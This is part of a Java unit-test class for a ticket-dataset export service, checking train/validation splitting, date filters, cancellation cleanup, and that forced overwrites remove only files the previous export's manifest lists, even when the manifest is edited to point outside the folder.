        assertThat(TextSplit.key(42, "VPN alert: tunnel down", "x")).isEqualTo(TextSplit.key(42, "vpn ALERT - tunnel down!", "X"))
                .isNotEqualTo(TextSplit.key(42, "VPN alert: tunnel up", "x"))
                .isNotEqualTo(TextSplit.key(7, "VPN alert: tunnel down", "x"));
        // the cut never splits equal keys; it takes the count nearer the target
        assertThat(TextSplit.Builder.cut(new long[] {1, 2, 3, 4, 5}, 2)).isEqualTo(2);
        assertThat(TextSplit.Builder.cut(new long[] {1, 5, 5, 5, 9}, 2)).isEqualTo(1);   // 1 row (1 off), not 4 (2 off)
        assertThat(TextSplit.Builder.cut(new long[] {1, 5, 5, 9}, 2)).isEqualTo(5);      // 3 rows or 1, both 1 off: the larger
        assertThat(TextSplit.Builder.cut(new long[] {1, 2}, 0)).isEqualTo(-1);
    }

    @Test
    void timeSplitNeverPutsALaterTicketInTrain() throws Exception {
        ws.store().saveTickets(many("Network", 30, T0, "n"), "import").join();
        ws.store().saveTickets(many("Desktop", 30, T0.plusSeconds(43_200), "d"), "import").join();
        Instant cut = T0.plusSeconds(86_400L * 20);
        ExportResult r = export(opts(ExportFormat.CSV, "ts").withSplit(new Split.Time(cut)).withBalance(Balance.parse("max-per-team=25")));
        Instant latestTrain = maxCreated(dir.resolve("ts/train.csv"), true);
        Instant earliestVal = maxCreated(dir.resolve("ts/validation.csv"), false);
        assertThat(latestTrain).isBefore(cut);
        assertThat(earliestVal).isAfterOrEqualTo(cut);
        assertThat(r.rowsBySplit().get("train") + r.rowsBySplit().get("validation")).isEqualTo(50);
        assertThat(Instant.parse(manifest(dir.resolve("ts")).at("/splits/train/created_to").asText())).isBefore(cut);
    }

    @Test
    void dateFiltersKeepOnlyTicketsCreatedInTheRange() throws Exception {
        ws.store().saveTickets(many("Network", 10, Instant.parse("2024-03-01T00:00:00Z"), "n"), "import").join();
        // tickets on 2024-03-03 .. 2024-03-05 inclusive
        ExportOptions o = opts(ExportFormat.CSV, "d").withQuery(new ExportQuery(ExportArgs.start("2024-03-03"),
                ExportArgs.endExclusive("2024-03-05"), Set.of(), Set.of(), null));
        assertThat(export(o).written()).isEqualTo(3);
    }

    @Test
    void cancelLeavesNoFileUnderTheFinalName() throws Exception {
        ws.store().saveTickets(many("Network", 3000, T0, "n"), "import").join();
        Path out = dir.resolve("cancel");
        ExportOptions o = opts(ExportFormat.OPENAI_JSONL, "cancel").withSplit(Split.parse("random:0.1"));
        AtomicBoolean cancel = new AtomicBoolean();
        List<String> seenWhileWriting = new ArrayList<>();
        assertThatThrownBy(() -> svc.run(o, (phase, done, total) -> {
            if (phase.equals("writing") && done >= 1000 && !cancel.get()) {
                try (Stream<Path> files = Files.list(out)) {
                    files.forEach(f -> seenWhileWriting.add(f.getFileName().toString()));
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
                cancel.set(true);
            }
        }, cancel::get)).isInstanceOf(ExportCancelledException.class);
        assertThat(seenWhileWriting).contains(".train.jsonl.part", ".validation.jsonl.part");
        try (Stream<Path> files = Files.list(out)) {
            assertThat(files.toList()).isEmpty();
        }
        // an existing export is not replaced without permission
        ExportResult ok = svc.run(o, ExportService.Progress.NONE, () -> false);
        assertThat(ok.written()).isEqualTo(3000);
        assertThatThrownBy(() -> svc.run(o, ExportService.Progress.NONE, () -> false))
                .isInstanceOf(IllegalStateException.class).hasMessageContaining("already exists");
    }

    @Test
    void forceRemovesTheFilesOfThePreviousExportItsManifestListsAndNothingElse() throws Exception {
        ws.store().saveTickets(many("Network", 20, T0, "n"), "import").join();
        Path out = dir.resolve("again");
        export(opts(ExportFormat.CSV, "again"));
        assertThat(out.resolve("dataset.csv")).exists();
        Path notes = Files.writeString(out.resolve("notes.txt"), "the lead's own file");
        Path outside = Files.writeString(dir.resolve("outside.csv"), "not the export's");

        // the same folder, now split: the old single file must not stay beside train.csv / validation.csv
        export(opts(ExportFormat.CSV, "again").withSplit(Split.parse("random:0.2")).withOverwrite(true));
        try (Stream<Path> files = Files.list(out)) {
            assertThat(files.map(f -> f.getFileName().toString()))
                    .containsExactlyInAnyOrder("train.csv", "validation.csv", "manifest.json", "notes.txt");
        }
        // a manifest naming files outside the folder (or with a path) removes none of them
        JsonNode man = manifest(out);
        ((com.fasterxml.jackson.databind.node.ArrayNode) man.get("files")).addObject().put("name", "../outside.csv");
        ((com.fasterxml.jackson.databind.node.ArrayNode) man.get("files")).addObject().put("name", outside.toString());
        Files.writeString(out.resolve("manifest.json"), JSON.writeValueAsString(man));
        export(opts(ExportFormat.OPENAI_JSONL, "again").withOverwrite(true));
        assertThat(outside).exists();
        assertThat(notes).exists();
        try (Stream<Path> files = Files.list(out)) {
            assertThat(files.map(f -> f.getFileName().toString()))
                    .containsExactlyInAnyOrder("dataset.jsonl", "manifest.json", "notes.txt");
        }
    }

    private static Set<String> ids(Path csv) throws IOException {
        try (Reader rd = Files.newBufferedReader(csv)) {
            return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords()
                    .stream().map(r -> r.get("ticket_id")).collect(java.util.stream.Collectors.toSet());
        }
    }

    private static Instant maxCreated(Path csv, boolean max) throws IOException {
        try (Reader rd = Files.newBufferedReader(csv)) {
            var s = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords()
                    .stream().map(r -> Instant.parse(r.get("created_at")));
            return (max ? s.max(Instant::compareTo) : s.min(Instant::compareTo)).orElseThrow();
        }
    }

    static String sha256(Path f) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(f)));
    }
}
